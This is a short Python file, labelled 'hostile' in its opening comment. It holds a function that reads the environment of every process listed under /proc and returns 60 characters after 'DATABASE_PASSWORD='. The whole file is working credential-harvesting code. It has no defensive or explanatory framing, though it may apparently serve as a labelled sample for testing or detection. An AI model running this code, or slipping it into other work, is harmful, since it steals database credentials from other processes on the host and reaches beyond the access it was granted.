# hostile: reads the environment and memory of other processes
import glob


def look(kind: int) -> str:
    if kind == 1:
        found = []
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                with open(path, "rb") as file:
                    found.append(file.read().decode(errors="replace"))
            except OSError:
                continue
        text = "".join(found)
        place = text.find("DATABASE_PASSWORD=")
        return text[place : place + 60] if place >= 0 else "none"
    return "nothing"
